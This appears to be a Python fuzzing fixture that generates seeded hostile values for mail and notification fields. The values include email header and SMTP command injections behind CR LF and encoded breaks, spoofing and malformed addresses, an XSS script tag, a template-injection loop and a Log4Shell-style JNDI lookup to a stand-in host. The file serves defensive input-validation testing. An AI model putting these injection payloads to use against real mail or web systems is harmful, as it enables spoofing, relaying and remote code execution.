"""Values that would like to be a header, a receiver or a command of their own; deterministic by seed."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass

_BREAKS = (
    "\r\n", "\n", "\r", "\n\r", "\r\n ", "\n\t", "\0", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x7f", "\x85",
    "\u2028", "\u2029", "\x1b", "\x08", "%0d%0a", "\\r\\n", "=0D=0A", "&#13;&#10;", "␍␊", "\u560d\u560a",
)  # fmt: skip
"""The last is CR LF to whoever keeps the low octets only."""
_INJECTED = (
    "Bcc: evil@example.net",
    "To: evil@example.net",
    "Cc: evil@example.net, second@example.net",
    "Subject: 另一个标题",
    "Reply-To: evil@example.net",
    "From: 部领导 <boss@example.net>",
    "Content-Type: text/html",
    "X-Priority: 1",
    "\r\n正文",
    ".\r\nMAIL FROM:<evil@example.net>\r\nRCPT TO:<evil@example.net>\r\nDATA",
)
_ADDRESSES = (
    "a@example.com, evil@example.net",
    "a@example.com; evil@example.net",
    "a@example.com evil@example.net",
    "<a@example.com><evil@example.net>",
    "a@example.com>, <evil@example.net",
    "理论科科长 <a@example.com>, <evil@example.net>",
    '"a@example.com, evil"@example.net',
    '"a\r\nBcc: evil@example.net"@example.com',
    "a(evil@example.net)@example.com",
    "group: a@example.com, evil@example.net;",
    "a@example.com\0@example.net",
    "a＠example.com",
    "a@example。com",
    "a@exam\u00adple.com",
    "a@ex\u200bample.com",
    "a@例子.com",
    "a@xn--.com",
    "a@[127.0.0.1]",
    "a@" + "b" * 300 + ".com",
    "a" * 300 + "@example.com",
    "@example.com",
    "a@",
    "a@@example.com",
    "a@example.com%00",
    "-a@example.com",
    "a@example.com\\",
    "=?utf-8?q?a=40example.net?=",
    "@all",
    "a|@all",
    "a|b",
    "All",
    "@ALL",
)
_NAMES = (
    '理论科科长" <evil@example.net>, "',
    "理论科科长 <evil@example.net>",
    "理论科科长, evil@example.net",
    "evil@example.net",
    "<@all>",
    "<@zhang>",
    "甲\\",
    '"',
    "(",
    "甲 (evil@example.net)",
    "：；，。＜＞",
    "\u202e级领导\u202c",
    "\ufeff甲",
    "甲" * 2000,
    "a" * 5000,
    "a " * 2000,
    " 甲  乙 ",
    "👨‍👩‍👧‍👦" * 30,
    "e\u0301" * 50,
    "\ud800",
    "甲\udfff乙",
    "=?utf-8?b?6Ye+?=",
    "=?utf-8?q?=0D=0ABcc:_evil=40example.net?=",
    "=?" * 50,
    "?=",
    "[点此](https://evil.example)",
    "</p><script>alert(1)</script>",
    "{{ item.title }}{% for a in range(99999) %}",
    "${jndi:ldap://evil.example}",
    "甲\tBcc: 乙",
)
FIELDS = (
    "person.name",
    "person.mail",
    "person.wecom",
    "office.mailbox",
    "office.sign_off",
    "office.contact",
    "plan.title",
    "item.title",
    "channel.from",
    "channel.reply_to",
    "group.name",
)


@dataclass(frozen=True)
class Hostile:
    """A value, and the field of the plan it stands in."""

    field: str
    value: str


def hostile_values(count: int, seed: int = 2026) -> list[Hostile]:
    """Every listed value in a field of its kind, then breaks, injections and mixtures in all of them."""
    random_ = random.Random(seed)
    values = [*_ADDRESSES, *_NAMES]
    values += [f"a@example.com{break_}{injected}" for break_ in _BREAKS for injected in _INJECTED[:2]]
    values += [f"标题{break_}{injected}" for break_ in _BREAKS for injected in _INJECTED[2:5]]
    random_.shuffle(values)
    while len(values) < count:
        text = random_.choice([*_ADDRESSES, *_NAMES, "标题", "a@example.com", "甲 <a@example.com>"])
        for _ in range(random_.randint(1, 2)):
            text = _mutated(text, random_)
        values.append(text)
    return [Hostile(FIELDS[index % len(FIELDS)], value) for index, value in enumerate(values[:count])]


def _mutated(text: str, random_: random.Random) -> str:
    place = random_.randrange(len(text) + 1)
    match random_.randrange(5):
        case 0:
            return text[:place] + random_.choice(_BREAKS) + random_.choice(_INJECTED) + text[place:]
        case 1:
            return text[:place] + random_.choice(_BREAKS) + text[place:]
        case 2:
            octets = base64.b64encode((text + "\r\n" + _INJECTED[0]).encode("utf-8", "surrogatepass"))
            return f"=?utf-8?b?{octets.decode()}?="
        case 3:
            return text[:place] + random_.choice('<>,;:"\\()[]@|\t \u3000\u00a0\u200b＠，；') + text[place:]
        case _:
            return text + random_.choice([", ", "\n", " ", ";"]) + random_.choice(_ADDRESSES)


def quoted(value: str) -> str:
    """The value as a double-quoted scalar of YAML, whatever it holds."""
    signs = []
    for sign in value:
        number = ord(sign)
        if sign in '"\\':
            signs.append("\\" + sign)
        elif (
            number < 0x20
            or 0x7F <= number <= 0xA0
            or 0xD800 <= number < 0xE000
            or number in (0x2028, 0x2029, 0xFEFF)
        ):
            signs.append(f"\\u{number:04X}")
        else:
            signs.append(sign)
    return '"' + "".join(signs) + '"'
